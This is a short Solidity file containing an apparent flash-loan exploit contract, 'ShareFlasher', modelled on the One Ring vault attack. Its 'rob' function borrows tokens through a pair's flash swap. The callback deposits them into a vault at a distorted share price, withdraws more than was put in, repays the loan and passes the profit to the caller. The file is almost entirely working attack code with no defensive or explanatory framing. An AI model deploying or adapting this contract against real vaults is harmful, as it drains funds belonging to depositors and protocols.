// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

interface IERC20 {
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
    function approve(address spender, uint256 amount) external returns (bool);
}

interface IPair {
    function swap(uint256 amount0, uint256 amount1, address to, bytes calldata data) external;
}

interface IVault {
    function depositSafe(uint256 amount, address token, uint256 least) external;
    function withdraw(uint256 shares, address token) external returns (uint256);
    function balanceOf(address account) external view returns (uint256);
}

/// One Ring: with what a pair lends for the moment, buys shares of a vault and gives them back at the price that the
/// lent amount, missing in the pair and moved in the others, has made.
contract ShareFlasher {
    function rob(address pair, address vault, address token, uint256 amount) external {
        IPair(pair).swap(amount, 0, address(this), abi.encode(vault, token));
        IERC20(token).transfer(msg.sender, IERC20(token).balanceOf(address(this)));
    }

    function hook(address, uint256 amount, uint256, bytes calldata data) external {
        (address vault, address token) = abi.decode(data, (address, address));
        IERC20(token).approve(vault, amount);
        IVault(vault).depositSafe(amount, token, 1);
        IVault(vault).withdraw(IVault(vault).balanceOf(address(this)), token);
        IERC20(token).transfer(msg.sender, amount * 10_000 / 9_999 + 10_000);
    }
}
